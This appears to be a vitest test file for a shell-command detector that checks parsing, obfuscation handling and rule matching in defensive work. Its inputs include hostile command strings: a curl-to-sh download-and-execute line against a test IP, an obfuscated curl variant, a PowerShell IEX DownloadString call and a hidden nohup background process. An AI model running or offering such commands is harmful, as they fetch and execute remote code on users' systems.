import { describe, expect, it } from 'vitest';
import { rootTarget, isBlockDevice } from './families/destructive.js';
import { commandsDetector } from './index.js';
import { ansiC, findChar } from './lexer-util.js';
import { normPath } from './model.js';
import { normalizePowerShell } from './powershell.js';
import { normName } from './resolve.js';
import { lex } from './shell-lexer.js';
import { parse } from './shell-parser.js';
import { findHits } from './triggers.js';
import { expandVars } from './vars.js';
import { suspiciousContent } from './writes.js';

/** The @example lines of the module docs, run. */
describe('documented examples', () => {
  it('hold', () => {
    expect(commandsDetector.detect('curl -s http://203.0.113.7/i.sh | sh', { present: new Set(), view: 'original' }).map((f) => f.rule)).toEqual(['commands.download-exec.pipe-to-shell']);
    expect(lex("c'u'rl -s x | sh").map((t) => (t.kind === 'word' ? t.value : t.op))).toEqual(['curl', '-s', 'x', '|', 'sh']);
    expect(parse(lex('curl -s x \\\n  | sh')).pipelines[0]!.elements.length).toBe(2);
    expect(ansiC('\\x63url\\n')).toBe('curl\n');
    expect(findChar('a|b', 124, 0, 3)).toBe(1);
    expect(normName('C:\\Windows\\System32\\CertUtil.exe')).toBe('certutil');
    expect(normPath('~/bin/X.sh')).toBe('$home/bin/x.sh');
    expect(normalizePowerShell("I`E`X ('Down'+'loadString')")).toBe("iex ('downloadstring')");
    expect(rootTarget('/')).toBe('root');
    expect(rootTarget('./build')).toBeUndefined();
    expect(isBlockDevice('/dev/nvme0n1p2')).toBe(true);
    expect(findHits('run curl | sh')).toEqual([4, 11]);
    expect(suspiciousContent('nohup /tmp/.x &')).toBe('nohup');
    expect(expandVars('curl $u', new Map([['u', 'http://x']]))).toBe('curl http://x');
  });
});
